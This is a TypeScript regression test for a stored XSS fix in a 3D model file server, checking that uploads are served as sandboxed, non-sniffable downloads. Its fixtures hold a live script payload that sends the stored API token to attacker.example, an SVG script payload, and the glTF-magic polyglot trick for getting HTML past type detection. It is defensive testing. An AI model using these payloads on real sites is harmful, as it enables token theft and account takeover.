// Stored XSS: an upload called evil.html that starts with the glTF magic (or an .svg holding <COLLADA) used to be
// served from /files as text/html (image/svg+xml) on the viewer's origin, where its script read the token.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { storedFileHeaders } from '../../src/http/files/serve-files.ts';
import { catalogApi, pathOf } from '../helpers/catalog-api.ts';
import { testDialects } from '../helpers/databases.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

const STEAL = `<script>fetch('https://attacker.example/?t='+localStorage.getItem('vitrine.apiToken'))</script>`;

/** A 12-byte glTF binary header followed by an HTML page: detected as GLB by its magic. */
function glbLookingHtml(): Buffer {
  const header = Buffer.alloc(12);
  header.write('glTF', 0, 'latin1');
  header.writeUInt32LE(2, 4);
  const page = Buffer.from(`<html><body>${STEAL}</body></html>`);
  header.writeUInt32LE(12 + page.length, 8);
  return Buffer.concat([header, page]);
}

const SVG_COLLADA = `<svg xmlns="http://www.w3.org/2000/svg"><!-- <COLLADA xmlns="http://www.collada.org/2005/11/COLLADASchema" version="1.4.1"> --><script>alert(localStorage.length)</script></svg>`;

for (const dialect of testDialects()) {
  void describe(`stored files cannot run as a page (${dialect})`, () => {
    let testApp: TestApp;
    before(async () => {
      testApp = await createTestApp(dialect);
    });
    after(() => testApp.close());

    const uploadAndFetch = async (filename: string, data: Buffer | string) => {
      const uploaded = await catalogApi(testApp.app, testApp.auth).upload(filename, data);
      assert.equal(uploaded.status, 201, `${filename} is accepted as a model (${uploaded.text})`);
      return testApp.app.inject({ method: 'GET', url: pathOf(uploaded.json.data.original_url as string) });
    };

    const assertInert = (
      served: Awaited<ReturnType<typeof uploadAndFetch>>,
      filename: string,
      type = 'application/octet-stream',
    ) => {
      assert.equal(served.statusCode, 200);
      assert.equal(served.headers['content-type'], type);
      assert.match(String(served.headers['content-disposition']), /^attachment; filename="/);
      assert.match(String(served.headers['content-disposition']), new RegExp(filename.replace('.', '\\.')));
      assert.equal(served.headers['x-content-type-options'], 'nosniff');
      const csp = String(served.headers['content-security-policy']);
      assert.match(csp, /(^|; )sandbox(;|$)/);
      assert.match(csp, /default-src 'none'/);
      assert.equal(served.headers['x-frame-options'], 'DENY');
    };

    void it('serves an .html original holding the glTF magic as a download, never text/html', async () => {
      const served = await uploadAndFetch('evil.html', glbLookingHtml());
      assertInert(served, 'evil.html');
      assert.ok(served.body.includes('<script>'), 'the bytes themselves are kept as uploaded');
    });

    void it('serves an .svg original holding <COLLADA as a download, never image/svg+xml', async () => {
      const served = await uploadAndFetch('logo.svg', SVG_COLLADA);
      assertInert(served, 'logo.svg');
    });

    void it('keeps a model type for an original with a model extension, still as a download', async () => {
      const served = await uploadAndFetch('tri.obj', 'v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n');
      assertInert(served, 'tri.obj', 'model/obj');
    });

    void it('keeps the inert headers on a ranged read and on a conditional 304', async () => {
      const uploaded = await catalogApi(testApp.app, testApp.auth).upload('range.html', glbLookingHtml());
      const url = pathOf(uploaded.json.data.original_url as string);
      const ranged = await testApp.app.inject({ method: 'GET', url, headers: { range: 'bytes=0-11' } });
      assert.equal(ranged.statusCode, 206);
      assert.equal(ranged.headers['content-type'], 'application/octet-stream');
      assert.match(String(ranged.headers['content-security-policy']), /sandbox/);
      const again = await testApp.app.inject({
        method: 'GET',
        url,
        headers: { 'if-none-match': String(ranged.headers.etag) },
      });
      assert.equal(again.statusCode, 304);
      assert.match(String(again.headers['content-security-policy']), /sandbox/);
      assert.equal(again.headers['x-content-type-options'], 'nosniff');
    });
  });
}

void describe('stored file headers by name', () => {
  void it('allows only known types and shows only LODs and images inline', () => {
    const id = '00000000-0000-4000-8000-000000000000';
    assert.deepEqual(storedFileHeaders(`models/${id}/lod0-abc.glb`), {
      contentType: 'model/gltf-binary',
      attachment: false,
    });
    assert.deepEqual(storedFileHeaders(`models/${id}/thumb-abc.png`), {
      contentType: 'image/png',
      attachment: false,
    });
    assert.deepEqual(storedFileHeaders(`models/${id}/source/a.glb`), {
      contentType: 'model/gltf-binary',
      attachment: true,
    });
    for (const name of ['x.html', 'x.HTM', 'x.svg', 'x.xhtml', 'x.xml', 'x.js', 'x.css', 'noext', '.html']) {
      assert.deepEqual(storedFileHeaders(`models/${id}/${name}`), {
        contentType: 'application/octet-stream',
        attachment: true,
      });
    }
  });
});
